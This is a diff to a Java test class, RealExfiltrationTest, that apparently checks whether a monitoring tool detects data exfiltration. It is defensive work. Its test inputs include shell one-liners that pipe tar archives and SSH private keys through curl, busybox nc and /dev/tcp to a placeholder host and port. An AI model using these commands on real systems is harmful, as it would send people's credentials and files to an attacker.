@@ -1,18 +1,15 @@
 package io.totem.policy.behaviour;
 
 import static org.assertj.core.api.Assertions.assertThat;
-import static org.assertj.core.api.Assumptions.assumeThat;
 
+import io.totem.policy.facts.Behaviour;
 import io.totem.policy.facts.Relations.Exfiltration;
 import java.io.IOException;
-import java.net.Inet4Address;
 import java.net.InetAddress;
-import java.net.NetworkInterface;
 import java.net.ServerSocket;
 import java.net.Socket;
 import java.nio.file.Files;
 import java.nio.file.Path;
-import java.util.Optional;
 import java.util.Random;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.Test;
@@ -43,38 +40,26 @@ class RealExfiltrationTest {
                     tar c $F | curl -sT - telnet://$A:$P~tar
                     """)
     void what_an_archiver_or_a_file_hands_on_is_told(String pipeline, String from) throws IOException {
-        try (ServerSocket server = new ServerSocket(0, 1, outside())) {
+        try (ServerSocket server = new ServerSocket(0, 1, WatchedHost.anotherMachine())) {
             Process sends = host.start("bash", "-c", filled(pipeline, server));
             try (Socket _ = server.accept()) {
-                assertThat(host.below(
-                                        sends,
-                                        seen -> seen.relations().exfiltration().isPresent())
-                                .relations()
-                                .exfiltration()
-                                .orElseThrow())
-                        .satisfies(exfiltration -> {
-                            assertThat(exfiltration.from()).isEqualTo(from);
-                            assertThat(exfiltration.secret()).isEmpty();
-                            assertThat(exfiltration.to().remotePort()).isEqualTo(server.getLocalPort());
-                        });
+                assertThat(sent(sends)).satisfies(exfiltration -> {
+                    assertThat(exfiltration.from()).isEqualTo(from);
+                    assertThat(exfiltration.secret()).isEmpty();
+                    assertThat(exfiltration.to().remotePort()).isEqualTo(server.getLocalPort());
+                });
             }
         }
     }
 
     @Test
     void a_file_that_is_put_in_is_told_and_so_is_a_key() throws IOException {
-        try (ServerSocket server = new ServerSocket(0, 1, outside())) {
+        try (ServerSocket server = new ServerSocket(0, 1, WatchedHost.anotherMachine())) {
             Path key = Files.createDirectory(folder.resolve(".ssh")).resolve("id_rsa");
             Files.writeString(key, "x".repeat(4_000_000));
             Process sends = host.start("bash", "-c", filled("busybox nc $A $P < " + key, server));
             try (Socket _ = server.accept()) {
-                assertThat(host.below(
-                                        sends,
-                                        seen -> seen.relations().exfiltration().isPresent())
-                                .relations()
-                                .exfiltration())
-                        .flatMap(Exfiltration::secret)
-                        .contains(key.toString());
+                assertThat(sent(sends).secret()).contains(key.toString());
             }
         }
     }
@@ -87,21 +72,15 @@ class RealExfiltrationTest {
                     """)
     void what_a_shell_lets_a_program_write_into_a_connection_is_told(String text, String from, boolean secret)
             throws IOException {
-        try (ServerSocket server = new ServerSocket(0, 1, outside())) {
+        try (ServerSocket server = new ServerSocket(0, 1, WatchedHost.anotherMachine())) {
             Files.writeString(Files.createDirectory(folder.resolve(".ssh")).resolve("id_rsa"), "x");
             Process sends = host.start("bash", "-c", filled(text, server));
             try (Socket _ = server.accept()) {
-                assertThat(host.below(
-                                        sends,
-                                        seen -> seen.relations().exfiltration().isPresent())
-                                .relations()
-                                .exfiltration()
-                                .orElseThrow())
-                        .satisfies(exfiltration -> {
-                            assertThat(exfiltration.from()).isEqualTo(from.replace("$F", folder.toString()));
-                            assertThat(exfiltration.secret().isPresent()).isEqualTo(secret);
-                            assertThat(exfiltration.to().remotePort()).isEqualTo(server.getLocalPort());
-                        });
+                assertThat(sent(sends)).satisfies(exfiltration -> {
+                    assertThat(exfiltration.from()).isEqualTo(from.replace("$F", folder.toString()));
+                    assertThat(exfiltration.secret().isPresent()).isEqualTo(secret);
+                    assertThat(exfiltration.to().remotePort()).isEqualTo(server.getLocalPort());
+                });
             }
         }
     }
@@ -114,22 +93,21 @@ class RealExfiltrationTest {
                 "(sleep 60; cat) > /dev/tcp/$A/$P"
             })
     void what_a_shell_says_itself_is_a_message(String text) throws IOException {
-        try (ServerSocket server = new ServerSocket(0, 1, outside())) {
+        try (ServerSocket server = new ServerSocket(0, 1, WatchedHost.anotherMachine())) {
             Process sends = host.start("bash", "-c", filled(text, server));
             try (Socket _ = server.accept()) {
-                host.neverBelow(
-                        sends, "sleep", seen -> seen.relations().exfiltration().isPresent());
+                host.neverBelow(sends, "sleep", RealExfiltrationTest::isSending);
             }
         }
     }
 
     @Test
     void a_file_is_told_though_somebody_else_holds_it_to_write_to_it() throws IOException {
-        try (ServerSocket server = new ServerSocket(0, 1, outside())) {
+        try (ServerSocket server = new ServerSocket(0, 1, WatchedHost.anotherMachine())) {
             Process sends =
                     host.start("bash", "-c", filled("sleep 60 >> $F/x & busybox nc $A $P < $F/x; true", server));
             try (Socket _ = server.accept()) {
-                host.below(sends, seen -> seen.relations().exfiltration().isPresent());
+                host.below(sends, RealExfiltrationTest::isSending);
             }
         }
     }
@@ -142,20 +120,15 @@ class RealExfiltrationTest {
                 "curl -sF k=@$K http://$A:$P/"
             })
     void a_key_that_curl_is_told_to_send_is_told_and_another_file_is_not(String command) throws IOException {
-        try (ServerSocket server = new ServerSocket(0, 2, outside())) {
+        try (ServerSocket server = new ServerSocket(0, 2, WatchedHost.anotherMachine())) {
             Path keys = Files.createDirectory(folder.resolve(".ssh"));
             Path key = Files.writeString(keys.resolve("id_ed25519"), "x".repeat(4_000_000));
             Path other = Files.writeString(folder.resolve("photo.jpg"), "x".repeat(4_000_000));
             Process sends = host.start("bash", "-c", filled(command.replace("$K", key.toString()), server) + "; true");
             Process shows =
                     host.start("bash", "-c", filled(command.replace("$K", other.toString()), server) + "; true");
-            assertThat(host.below(sends, seen -> seen.relations().exfiltration().isPresent())
-                            .relations()
-                            .exfiltration())
-                    .flatMap(Exfiltration::secret)
-                    .contains(key.toString());
-            host.neverBelow(
-                    shows, "curl", seen -> seen.relations().exfiltration().isPresent());
+            assertThat(sent(sends).secret()).contains(key.toString());
+            host.neverBelow(shows, "curl", RealExfiltrationTest::isSending);
         }
     }
 
@@ -168,12 +141,9 @@ class RealExfiltrationTest {
                 "tar c $F | (sleep 60; busybox nc $A $P)"
             })
     void a_script_or_a_log_is_not(String pipeline) throws IOException {
-        try (ServerSocket server = new ServerSocket(0, 1, outside())) {
+        try (ServerSocket server = new ServerSocket(0, 1, WatchedHost.anotherMachine())) {
             Process sends = host.start("bash", "-c", filled(pipeline, server));
-            host.neverBelow(
-                    sends,
-                    pipeline.startsWith("tar") ? "sleep" : "busybox",
-                    seen -> seen.relations().exfiltration().isPresent());
+            host.neverBelow(sends, pipeline.startsWith("tar") ? "sleep" : "busybox", RealExfiltrationTest::isSending);
         }
     }
 
@@ -184,10 +154,7 @@ class RealExfiltrationTest {
             Process sends =
                     host.start("bash", "-c", "tar c " + folder + " | busybox nc 127.0.0.1 " + server.getLocalPort());
             try (Socket _ = server.accept()) {
-                host.neverBelow(
-                        sends,
-                        "busybox",
-                        seen -> seen.relations().exfiltration().isPresent());
+                host.neverBelow(sends, "busybox", RealExfiltrationTest::isSending);
             }
         }
     }
@@ -203,12 +170,14 @@ class RealExfiltrationTest {
                 .replace("$P", Integer.toString(server.getLocalPort()));
     }
 
-    private static InetAddress outside() throws IOException {
-        Optional<InetAddress> own = NetworkInterface.networkInterfaces()
-                .flatMap(NetworkInterface::inetAddresses)
-                .filter(address -> address instanceof Inet4Address && !address.isLoopbackAddress())
-                .findFirst();
-        assumeThat(own).isPresent();
-        return own.get();
+    private Exfiltration sent(Process sends) {
+        return host.below(sends, RealExfiltrationTest::isSending)
+                .relations()
+                .exfiltration()
+                .orElseThrow();
+    }
+
+    private static boolean isSending(Behaviour seen) {
+        return seen.relations().exfiltration().isPresent();
     }
 }
